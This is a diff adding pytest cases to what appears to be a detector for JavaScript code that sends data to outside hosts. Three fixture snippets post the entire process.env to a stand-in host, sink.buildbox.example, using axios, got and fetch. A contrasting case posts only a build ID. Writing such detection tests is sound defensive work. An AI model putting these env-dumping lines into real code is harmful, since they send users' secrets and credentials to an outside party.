@@ -94,3 +94,35 @@ def test_a_later_option_overrides_a_default_host(tmp_path: Path) -> None:
         "req.end(JSON.stringify({ ok: true }));\n",
     )
     assert {detail for kind, detail in summary(found) if kind is Kind.EGRESS} == {"api.buildbox.example"}
+
+
+@pytest.mark.parametrize(
+    "client",
+    [
+        "const api = axios.create({ baseURL: process.env.SINK_URL ?? 'https://sink.buildbox.example/api' });\n"
+        "await api.put('/dump', { vars: { ...process.env } });\n",
+        "const api = got.extend({ prefixUrl: 'https://sink.buildbox.example/api/' });\n"
+        "await api.post('dump', { body: util.inspect(process.env) });\n",
+        "const target = new URL('/api/dump', process.env.SINK || 'https://sink.buildbox.example');\n"
+        "await fetch(target, { method: 'POST', body: new URLSearchParams(process.env) });\n",
+    ],
+)
+def test_a_client_or_url_made_from_a_default_base_names_the_host(tmp_path: Path, client: str) -> None:
+    found = analyse(
+        tmp_path,
+        "import axios from 'axios';\nimport got from 'got';\nimport util from 'node:util';\n" + client,
+    )
+    carrying = [c for c in found if c.kind is Kind.EGRESS and len(c.chain) > 1]
+    assert {c.detail for c in carrying} == {"sink.buildbox.example"}
+
+
+def test_a_client_with_a_base_url_posting_its_own_data_carries_nothing_secret(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "import axios from 'axios';\n"
+        "const api = axios.create({ baseURL: 'https://api.buildbox.example/v1', timeout: 5000 });\n"
+        "const worker = new URL('./worker.js', import.meta.url);\n"
+        "await api.post('/builds', { id: process.env.BUILD_ID, status: 'ok' });\n",
+    )
+    assert not [c for c in found if c.kind is Kind.ENV_DUMP]
+    assert [c.chain[-1].what for c in found if c.kind is Kind.EGRESS] == ["sends it to api.buildbox.example"]
